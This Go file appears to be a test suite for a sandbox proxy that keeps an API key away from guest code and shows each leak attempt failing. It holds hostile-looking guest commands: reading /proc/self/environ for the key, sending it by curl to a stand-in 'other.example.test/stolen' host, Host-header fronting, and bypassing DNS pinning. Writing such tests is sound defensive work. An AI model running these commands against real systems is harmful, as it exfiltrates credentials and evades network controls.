package main

import (
	"encoding/base64"
	"errors"
	"fmt"
	"strings"

	"github.com/cutoutdev/cutout/internal/testnet"
)

const placeholder = "$MSB_API_KEY"

const bearer = `-H "Authorization: Bearer $API_KEY"`

const python = `python3 - <<'PY'
import os, urllib.request
r = urllib.request.Request("https://api.example.test/python", headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
try:
    print(urllib.request.urlopen(r).status)
except urllib.error.HTTPError as e:
    print(e.code)
PY`

var steps = []step{
	{
		name:  "variable",
		story: "In the guest, the variable holds a placeholder.",
		guest: `echo "$API_KEY"; cat /proc/self/environ | tr '\0' '\n' | grep ^API_KEY=`,
		check: func(_ *world, out string) (string, error) {
			if out != placeholder+"\nAPI_KEY="+placeholder+"\n" {
				return "", fmt.Errorf("the guest printed %q", out)
			}
			return "API_KEY=" + placeholder, nil
		},
	},
	{
		name:  "curl",
		story: "curl calls the allowed host: the server receives the real key.",
		guest: `curl -sS ` + bearer + ` https://api.example.test/curl`,
		check: func(w *world, _ string) (string, error) { return w.api1("/curl", "Bearer "+w.key) },
	},
	{
		name:  "basic",
		story: "The same with Basic authentication and HTTP/1.1.",
		guest: `curl -sS --http1.1 -u "me:$API_KEY" https://api.example.test/basic`,
		check: func(w *world, _ string) (string, error) {
			return w.api1("/basic", "Basic "+base64.StdEncoding.EncodeToString([]byte("me:"+w.key)))
		},
	},
	{
		name:  "python",
		story: "Python calls the allowed host.",
		guest: python,
		check: func(w *world, _ string) (string, error) { return w.api1("/python", "Bearer "+w.key) },
	},
	{
		name:  "echo",
		story: "The allowed host sends the whole request back: the guest sees the placeholder.",
		guest: `curl -sS ` + bearer + ` https://api.example.test/echo`,
		check: func(w *world, out string) (string, error) {
			if _, err := w.api1("/echo", "Bearer "+w.key); err != nil {
				return "", err
			}
			if !strings.Contains(out, "Bearer "+placeholder) {
				return "", fmt.Errorf("the guest read %q", out)
			}
			return "Authorization: Bearer " + placeholder, nil
		},
	},
	{
		name:  "other",
		story: "A second server over HTTPS, not a host of the key: it receives the placeholder.",
		guest: `curl -sS --cacert /ca.pem ` + bearer + ` https://other.example.test/stolen`,
		check: func(w *world, _ string) (string, error) {
			return got(w.other, "/stolen", "Bearer "+placeholder)
		},
	},
	{
		name:  "authority",
		story: "The request names another Host than its connection: refused.",
		guest: `curl -sS ` + bearer + ` -H 'Host: other.example.test' https://api.example.test/fronted`,
		check: func(w *world, out string) (string, error) {
			return refused(w.api, "/fronted", out, "authority_mismatch")
		},
	},
	{
		name:  "unresolved",
		story: "An address that the sandbox's resolver never gave: it is not even dialled.",
		guest: `curl -sS --resolve api.example.test:443:93.184.215.14 ` + bearer + ` https://api.example.test/unresolved`,
		check: func(w *world, out string) (string, error) {
			return refused(w.api, "/unresolved", out, "not_pinned")
		},
	},
	{
		name:  "plain",
		story: "Plain HTTP to the allowed host: refused.",
		guest: `curl -sS ` + bearer + ` http://api.example.test/plain`,
		check: func(w *world, out string) (string, error) { return refused(w.plain, "/plain", out, "plain_http") },
	},
	{
		name:  "unverified",
		story: "An allowed name whose server cannot prove that it is it: refused.",
		guest: `curl -sS ` + bearer + ` https://broken.example.test/unverified`,
		check: func(w *world, out string) (string, error) {
			return refused(w.broken, "/unverified", out, "upstream_unverified")
		},
	},
}

// api1 checks that the allowed host received exactly one request for path,
// with that Authorization.
func (w *world) api1(path, authorization string) (string, error) {
	return got(w.api, path, authorization)
}

func got(u *testnet.Upstream, path, authorization string) (string, error) {
	var found []testnet.Request
	for _, r := range u.Requests() {
		if r.Target == path {
			found = append(found, r)
		}
	}
	if len(found) != 1 {
		return "", fmt.Errorf("the server received %d requests for %s", len(found), path)
	}
	if have := found[0].Header.Get("Authorization"); have != authorization {
		return "", fmt.Errorf("the server received Authorization: %s", have)
	}
	return fmt.Sprintf("%s received  Authorization: %s  (%s)", found[0].Host, authorization, found[0].Proto), nil
}

// refused checks that the guest was told reason and that nothing of the
// request reached the server.
func refused(u *testnet.Upstream, path, out, reason string) (string, error) {
	for _, r := range u.Requests() {
		if r.Target == path {
			return "", errors.New("the server received the request")
		}
	}
	if !strings.Contains(out, `"`+reason+`"`) {
		return "", fmt.Errorf("the guest was told %q, not %s", strings.TrimSpace(out), reason)
	}
	return reason, nil
}

// valueCount counts the requests that carried the key, everywhere. The other
// servers must have seen none.
func (w *world) valueCount() int {
	n := 0
	for _, u := range w.upstreams() {
		for _, r := range u.Requests() {
			text := r.Text()
			if strings.Contains(text, w.key) || strings.Contains(text, base64.StdEncoding.EncodeToString([]byte("me:"+w.key))) {
				n++
			}
		}
	}
	return n
}
